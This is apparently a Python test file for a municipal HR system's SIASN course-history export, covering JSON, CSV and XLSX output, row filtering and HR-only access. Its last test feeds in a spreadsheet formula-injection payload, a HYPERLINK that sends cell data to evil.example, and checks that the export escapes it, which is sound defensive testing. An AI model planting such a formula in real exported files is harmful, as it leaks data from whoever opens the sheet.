"""The SIASN "riwayat kursus" export."""

from __future__ import annotations

import datetime as dt
import io
from uuid import uuid4

from openpyxl import load_workbook

from lms.competencies.ledger import attach_certificate, revoke_session_credit
from tests.factories import make_person
from tests.lms.builders.competencies import credit

EXPORT = "/api/v1/reports/siasn-export"


async def certified(person, jp, number, **kwargs):
    session = uuid4()
    await credit(person, jp, session_id=session, **kwargs)
    await attach_certificate(person_id=person, session_id=session, certificate_number=number)
    return session


async def test_one_row_per_certified_approved_entry(client, hr, unit, other_unit):
    siti = await make_person(unit["id"], "Siti", nip="199001012015032001")
    rudi = await make_person(other_unit["id"], "Rudi", nip="198805052012121002")
    no_nip = await make_person(unit["id"], "Tenaga Kontrak", asn_type="non_asn")
    await certified(
        siti,
        "19.5",
        "012/PP/DPMPTSP/III/2026",
        start=dt.date(2026, 3, 2),
        end=dt.date(2026, 3, 4),
        jenis_diklat=3,
    )
    await certified(
        rudi,
        8,
        "001/SEM/BKPSDM/V/2026",
        start=dt.date(2026, 5, 6),
        end=dt.date(2026, 5, 6),
        jenis_diklat=9,
        title="Seminar ASN BerAKHLAK",
    )
    await certified(no_nip, 16, "013/PP/DPMPTSP/III/2026")
    await credit(siti, 4)  # no certificate: not exported
    revoked = await certified(siti, 10, "014/PP/DPMPTSP/III/2026")
    await revoke_session_credit(person_id=siti, session_id=revoked, reason="x", actor=None)
    await certified(
        siti, 6, "099/PP/DPMPTSP/XII/2025", start=dt.date(2025, 12, 1), end=dt.date(2025, 12, 1)
    )

    resp = await client.get(EXPORT, params={"year": 2026, "format": "json"}, headers=hr.headers)
    assert resp.status_code == 200, resp.text
    body = resp.json()
    assert body["total"] == 2
    assert body["skipped_without_nip"] == 1
    assert body["items"] == [
        {
            "nip": "198805052012121002",
            "jenisDiklatId": 9,
            "namaKursus": "Seminar ASN BerAKHLAK",
            "institusiPenyelenggara": "DPMPTSP Kota Padang Panjang",
            "jumlahJam": 8,
            "nomorSertipikat": "001/SEM/BKPSDM/V/2026",
            "tahunKursus": 2026,
            "tanggalKursus": "06-05-2026",
            "tanggalSelesaiKursus": "06-05-2026",
        },
        {
            "nip": "199001012015032001",
            "jenisDiklatId": 3,
            "namaKursus": "Pelatihan Pelayanan Prima Angkatan I",
            "institusiPenyelenggara": "DPMPTSP Kota Padang Panjang",
            "jumlahJam": 20,  # 19.5 JP rounded half-up to a whole number
            "nomorSertipikat": "012/PP/DPMPTSP/III/2026",
            "tahunKursus": 2026,
            "tanggalKursus": "02-03-2026",
            "tanggalSelesaiKursus": "04-03-2026",
        },
    ]

    csv = await client.get(EXPORT, params={"year": 2026}, headers=hr.headers)
    assert csv.headers["content-type"] == "text/csv; charset=utf-8"
    assert 'filename="riwayat-kursus-siasn-2026.csv"' in csv.headers["content-disposition"]
    # ";" and a BOM: Excel in an Indonesian locale opens it in columns.
    assert csv.content.startswith(b"\xef\xbb\xbfnip;jenisDiklatId;")
    assert csv.content.decode("utf-8-sig").split("\r\n") == [
        "nip;jenisDiklatId;namaKursus;institusiPenyelenggara;jumlahJam;nomorSertipikat;"
        "tahunKursus;tanggalKursus;tanggalSelesaiKursus",
        "198805052012121002;9;Seminar ASN BerAKHLAK;DPMPTSP Kota Padang Panjang;8;"
        "001/SEM/BKPSDM/V/2026;2026;06-05-2026;06-05-2026",
        "199001012015032001;3;Pelatihan Pelayanan Prima Angkatan I;DPMPTSP Kota Padang Panjang;"
        "20;012/PP/DPMPTSP/III/2026;2026;02-03-2026;04-03-2026",
        "",
    ]

    xlsx = await client.get(EXPORT, params={"year": 2026, "format": "xlsx"}, headers=hr.headers)
    assert xlsx.status_code == 200
    assert 'filename="riwayat-kursus-siasn-2026.xlsx"' in xlsx.headers["content-disposition"]
    sheet = load_workbook(io.BytesIO(xlsx.content))["Riwayat kursus"]
    values = list(sheet.values)
    assert values[0][0] == "PEMERINTAH KOTA PADANG PANJANG"
    assert values[1][0] == "Riwayat kursus untuk SIASN tahun 2026"
    assert values[3][:3] == ("nip", "jenisDiklatId", "namaKursus")
    assert values[4] == (
        "198805052012121002", 9, "Seminar ASN BerAKHLAK", "DPMPTSP Kota Padang Panjang", 8,
        "001/SEM/BKPSDM/V/2026", 2026, "06-05-2026", "06-05-2026",
    )  # fmt: skip
    assert sheet.freeze_panes == "A5" and sheet.auto_filter.ref == "A4:I6"

    only_unit = await client.get(
        EXPORT,
        params={"year": 2026, "unit_id": str(unit["id"]), "format": "json"},
        headers=hr.headers,
    )
    assert [i["nip"] for i in only_unit.json()["items"]] == ["199001012015032001"]


async def test_export_is_hr_only(client, organizer, participant):
    for actor in (organizer, participant):
        assert (await client.get(EXPORT, headers=actor.headers)).status_code == 403


async def test_csv_cells_that_start_a_formula_are_quoted(client, hr, unit):
    person = await make_person(unit["id"], "Siti", nip="199001012015032001")
    await certified(
        person,
        8,
        "@001/PP/2026",
        title='=HYPERLINK("http://evil.example/?d="&A2,"Klik")',
        end=dt.date(2026, 3, 4),
    )
    resp = await client.get(EXPORT, params={"year": 2026}, headers=hr.headers)
    row = resp.content.decode("utf-8-sig").split("\r\n")[1]
    assert '"\'=HYPERLINK(""http://evil.example/?d=""&A2,""Klik"")"' in row
    assert ";'@001/PP/2026;" in row
